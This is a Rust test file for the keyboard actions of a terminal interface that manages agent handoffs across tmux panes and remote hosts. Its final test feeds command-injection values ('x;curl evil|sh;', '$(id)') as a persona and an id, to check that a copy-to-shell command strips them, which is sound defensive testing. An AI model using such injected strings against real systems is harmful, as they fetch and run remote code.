//! The actions of keys.

use super::super::keys::key_action;
use super::super::model::{AgentRow, FailureRow, HandoffRow, HostMark};
use super::*;
use crate::contract::{HostState, understood};
use crate::demo::keys::{Key, KeyParser};
use proptest::prelude::*;
use serde_json::json;

fn model() -> Model {
    let agent = |id: &str, at: u32| {
        let view = json!({"agent_id": id, "pane": format!("%{at}"), "state": "idle", "registered_at": format!("{at}")});
        AgentRow::read(&understood(view).expect("an object")).expect("an agent")
    };
    let error = json!({"error_id": "e1", "code": "unconfirmed", "step": "briefing"});
    let handoff = json!({"handoff_id": "h1", "agent_id": "a1", "step": "failed", "error": error});
    let failure =
        json!({"error_id": "e1", "code": "unconfirmed", "message": "m", "handoff_id": "h1", "agent_id": "a1"});
    let mut model = Model::default();
    model.agents = vec![agent("a1", 1), agent("a2", 2), agent("a3", 3)];
    model.handoffs = understood(handoff).as_ref().and_then(HandoffRow::read).into_iter().collect();
    model.failures = understood(failure).as_ref().and_then(FailureRow::read).into_iter().collect();
    model.arranged()
}

/// Types keys; returns the actions.
fn typed(ui: &mut Ui, model: &Model, bytes: &str) -> Vec<LoopAction> {
    let mut parser = KeyParser::default();
    let mut keys = parser.feed(bytes.as_bytes());
    keys.extend(parser.give_up());
    let act = |key: &Key| key_action(key, &ui.mode).and_then(|action| ui.act(&action, model));
    keys.iter().filter_map(act).collect()
}

#[test]
fn a_handoff_asks_for_a_reason_and_a_focus() {
    let (model, mut ui) = (model(), Ui::default());
    let asked = |reason: &str, focus: Option<&str>| {
        let (agent, reason, focus) = ("a2".to_owned(), reason.to_owned(), focus.map(str::to_owned));
        [LoopAction::Ask(TopRequest::HandOff { agent, reason, focus })]
    };
    assert_eq!(typed(&mut ui, &model, "jhfull qc\rtests\r"), asked("full qc", Some("tests")));
    assert!(ui.pending);
    assert_eq!(typed(&mut ui, &model, "h"), [], "one at a time");
    ui.pending = false;
    assert_eq!(typed(&mut ui, &model, "h\r\r"), asked(REASON, None));
    ui.pending = false;
    assert_eq!(typed(&mut ui, &model, "hx\r\u{1b}"), []);
    assert_eq!(ui.mode, KeyMode::Browse);
}

#[test]
fn handing_off_an_agent_in_a_handoff_is_refused_before_any_question() {
    let (mut model, mut ui) = (model(), Ui::default());
    model.agents[1].handoff = Some("h1".to_owned());
    assert_eq!(typed(&mut ui, &model, "jh"), []);
    assert_eq!(ui.mode, KeyMode::Browse);
    assert!(ui.message.as_ref().is_some_and(|message| message.text.contains("already in handoff h1")));
}

#[test]
fn a_request_that_can_not_be_undone_must_be_confirmed() {
    let (model, mut ui) = (model(), Ui::default());
    for (key, asked) in [
        ("c", TopRequest::Cancel("h1".to_owned())),
        ("a", TopRequest::Accept("h1".to_owned())),
        ("d", TopRequest::Dismiss("e1".to_owned())),
    ] {
        assert_eq!(typed(&mut ui, &model, &format!("{key}xn")), []);
        assert_eq!(typed(&mut ui, &model, &format!("{key}y")), [LoopAction::Ask(asked)], "{key}");
        ui.pending = false;
    }
}

#[test]
fn a_text_in_doubt_is_asked_about_before_a_retry_and_after_a_refusal() {
    let (model, mut ui) = (model(), Ui::default());
    let retry = |assume| [LoopAction::Ask(TopRequest::Retry { handoff: "h1".to_owned(), assume })];
    assert_eq!(typed(&mut ui, &model, "rd"), retry(Some(AssumeArg::Delivered)));
    ui.pending = false;
    assert_eq!(typed(&mut ui, &model, "2rn"), retry(Some(AssumeArg::NotDelivered)));
    let asked = Some(TopRequest::Retry { handoff: "h1".to_owned(), assume: None });
    ui.hear(ActionResult { asked, said: Err(CliError::refused("in_doubt", "Who knows")), leaves: false });
    assert_eq!(ui.mode, KeyMode::Doubt { handoff: "h1".to_owned() });
    assert_eq!(typed(&mut ui, &model, "\u{1b}"), []);
}

#[test]
fn a_row_leads_to_its_agent_its_handoff_and_its_error() {
    let (model, mut ui) = (model(), Ui::default());
    assert_eq!(typed(&mut ui, &model, "4g"), [LoopAction::Jump("%1".to_owned())]);
    assert_eq!(typed(&mut ui, &model, "1jjg"), [LoopAction::Jump("%3".to_owned())]);
    assert_eq!(typed(&mut ui, &model, "jcy"), [], "that agent is in no handoff");
    assert!(ui.message.as_ref().is_some_and(|message| message.text.contains("no handoff")));
    assert_eq!(typed(&mut ui, &model, "3hg\r"), [], "there is no work");
}

/// Its view keeps its pane, and after a start of the tmux server that pane is somebody else's.
#[test]
fn nobody_is_led_to_the_pane_of_an_agent_that_has_ended() {
    let mut model = model();
    model.agents[0].living = false;
    let model = model.arranged();
    for keys in ["2g", "4g", "5jjg"] {
        let mut ui = Ui::default();
        assert_eq!(typed(&mut ui, &model, keys), [], "{keys}");
        assert_eq!(ui.message.map(|message| message.text).as_deref(), Some("This agent has ended."), "{keys}");
    }
}

#[test]
fn the_document_of_a_rows_handoff_is_opened_from_a_list_and_from_its_details() {
    let (model, mut ui) = (model(), Ui::default());
    let open = |ui: &Ui| match &ui.mode {
        KeyMode::Details { row: Row::Document(id), from: 0 } => Some(id.clone()),
        _ => None,
    };
    for way in ["v", "2v", "2\rv", "4\rv"] {
        assert_eq!(typed(&mut ui, &model, way), []);
        assert_eq!(open(&ui).as_deref(), Some("h1"), "{way:?}");
        assert_eq!(typed(&mut ui, &model, "\u{1b}"), []);
        assert_eq!(ui.mode, KeyMode::Browse, "{way:?}");
    }
    typed(&mut ui, &model, "1jjv");
    assert!(ui.message.as_ref().is_some_and(|message| message.text.contains("no handoff")) && open(&ui).is_none());
}

#[test]
fn the_selection_stays_with_its_row_and_goes_to_the_next_when_that_goes() {
    let (mut model, mut ui) = (model(), Ui::default());
    typed(&mut ui, &model, "j");
    ui.settle(&model);
    model.agents.remove(0);
    ui.settle(&model);
    assert_eq!(ui.row(&model), Some(Row::Agent("a2".to_owned())));
    model.agents.remove(0);
    ui.settle(&model);
    assert_eq!(ui.row(&model), Some(Row::Agent("a3".to_owned())));
    model.agents.clear();
    ui.settle(&model);
    assert_eq!((ui.row(&model), ui.selected(&model)), (None, 0));
    assert_eq!(typed(&mut ui, &model, "hcradg\rjk"), []);
}

#[test]
fn a_newer_row_does_not_take_the_place_of_the_row_that_was_seen_as_selected() {
    let (mut model, mut ui) = (model(), Ui::default());
    assert_eq!(typed(&mut ui, &model, "4"), []);
    let newer = json!({"error_id": "e2", "code": "agent_exited", "message": "m", "at": "2026-01-02T00:00:00Z"});
    model.failures.extend(understood(newer).as_ref().and_then(FailureRow::read));
    let model = model.arranged();
    ui.settle(&model);
    assert_eq!(ui.row(&model), Some(Row::Failure("e1".to_owned())));
    assert_eq!(typed(&mut ui, &model, "d"), []);
    let KeyMode::Confirm { question, .. } = &ui.mode else { panic!("{:?}", ui.mode) };
    assert_eq!(question, "Dismiss the error unconfirmed (e1)?");
}

#[test]
fn every_mode_can_be_left_and_control_c_leaves_all_of_it() {
    let (model, mut ui) = (model(), Ui::default());
    for way in ["h", "hx\r", "c", "2r", "?", "\r", "2v"] {
        typed(&mut ui, &model, way);
        assert_ne!(ui.mode, KeyMode::Browse, "{way:?}");
        assert_eq!(typed(&mut ui, &model, "\u{1b}"), []);
        assert_eq!(ui.mode, KeyMode::Browse, "{way:?}");
        typed(&mut ui, &model, way);
        assert_eq!(typed(&mut ui, &model, "\u{3}"), [LoopAction::Quit], "{way:?}");
        ui.mode = KeyMode::Browse;
    }
    assert_eq!(typed(&mut ui, &model, "q"), [LoopAction::Quit]);
}

#[test]
fn typed_text_becomes_one_bounded_plain_line() {
    let (model, mut ui) = (model(), Ui::default());
    typed(&mut ui, &model, &format!("h\u{1b}[200~a\nb\u{9b}{}\u{1b}[201~", "x".repeat(2_000)));
    let KeyMode::Input { text, .. } = &ui.mode else { panic!("{:?}", ui.mode) };
    assert!(text.starts_with("a bx") && text.chars().count() <= MOST_INPUT, "{text}");
}

proptest! {
    #[test]
    fn no_keys_make_the_screen_panic(bytes in "[a-z0-9?\t\r\u{1b}\\[ABCDHF~\u{7f}\u{3}\u{4} ]{0,60}") {
        let (model, mut ui) = (model(), Ui::default());
        typed(&mut ui, &model, &bytes);
        prop_assert!(ui.selected(&model) <= 3);
    }
}

#[test]
fn what_is_on_another_host_is_refused_with_the_command_that_asks_that_host() {
    let (mut model, mut ui) = (model(), Ui::default());
    let host = HostMark { name: "box-1".to_owned(), state: HostState::Live, since_ms: None };
    model.agents[1] = AgentRow { host: Some(host.clone()), persona: Some("mia".to_owned()), ..model.agents[1].clone() };
    model.handoffs[0].host = Some(host);
    for (keys, part) in [
        ("jh", "tasuki handoff mia@box-1"),
        ("g", "can only be done there"),
        ("2r", "tasuki retry h1@box-1"),
        ("2c", "tasuki cancel h1@box-1"),
        ("2v", "is on the host box-1"),
    ] {
        assert_eq!(typed(&mut ui, &model, keys), [], "{keys}");
        let message = ui.message.as_ref().map(|message| message.text.as_str()).unwrap_or_default();
        assert!(ui.mode == KeyMode::Browse && message.contains(part), "{keys}: {message}");
    }
}

/// The command is there to be copied into a shell, and its words come from another host.
#[test]
fn a_command_for_another_host_holds_only_words_that_are_a_persona_or_an_id() {
    let id = "33333333-3333-4333-8333-333333333333";
    let asked = |id: &str, persona: &str| {
        let view = json!({"agent_id": id, "persona_slug": persona, "state": "idle", "handoff_id": id});
        let mut agent = AgentRow::read(&understood(view).expect("an object")).expect("an agent");
        let mark = HostMark { name: "box-1".to_owned(), state: HostState::Live, since_ms: None };
        agent.host = Some(mark.clone());
        let view = json!({"handoff_id": id, "agent_id": id, "step": "writing"});
        let mut handoff = understood(view).as_ref().and_then(HandoffRow::read).expect("a handoff");
        handoff.host = Some(mark);
        let mut model = Model::default();
        (model.agents, model.handoffs) = (vec![agent], vec![handoff]);
        let model = model.arranged();
        ["h", "c"].map(|key| {
            let mut ui = Ui::default();
            assert_eq!(typed(&mut ui, &model, key), []);
            let said = ui.message.expect("a refusal").text;
            said.rsplit_once("Ask that host: ").expect("a command").1.to_owned()
        })
    };
    assert_eq!(asked(id, "mia"), ["tasuki handoff mia@box-1", "tasuki cancel 33333333@box-1"]);
    assert_eq!(asked(id, "x;curl evil|sh;")[0], "tasuki handoff 33333333@box-1");
    let hostile = asked("x;curl evil|sh;", "$(id)");
    assert_eq!(hostile, ["tasuki handoff AGENT@box-1", "tasuki cancel HANDOFF@box-1"]);
}
